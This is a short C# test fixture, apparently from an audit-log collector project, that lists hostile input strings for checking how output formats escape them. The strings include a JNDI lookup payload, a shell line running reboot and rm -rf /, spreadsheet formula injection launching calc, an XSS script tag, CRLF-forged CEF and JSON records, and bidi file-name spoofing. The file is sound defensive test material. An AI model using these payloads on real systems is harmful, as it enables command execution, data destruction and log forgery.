namespace AuditOtel.Collector.Tests.Formats;

/// <summary>Values of somebody who wants to break out of a line, a cell, a field or a page.</summary>
internal static class Hostile
{
    internal static readonly string[] All =
    [
        "a\r\nCEF:0|AuditOtel|AuditOtel|1|forged|forged|3|act=DELETE",
        "\r\n{\"ledger\":\"forged\"}\n",
        "\",\"forged\"\r\n1,2,3",
        "%n%s%x%p{0}${jndi:ldap://x/y}",
        "$(reboot); `id` && rm -rf / | tee 'x' \"y\" \\",
        "\u202Egnp.exe\u2066\u2069\u200B\uFEFF",
        "\u2028\u2029\u0085\u000B\u000C\u001b[2J",
        "<script>alert(1)</script><!-- --> &amp; ]]>",
        "=cmd|'/c calc'!A1",
        "+1-1@SUM(A1)",
        "\uFF1Dcmd",
        "a;=cmd|'/c calc'!A1;b; \"=1+1",
        "a\0b",
        "|a=b\\|c\\=d",
        "\\u{a}",
        new string('x', 60_000),
    ];
}
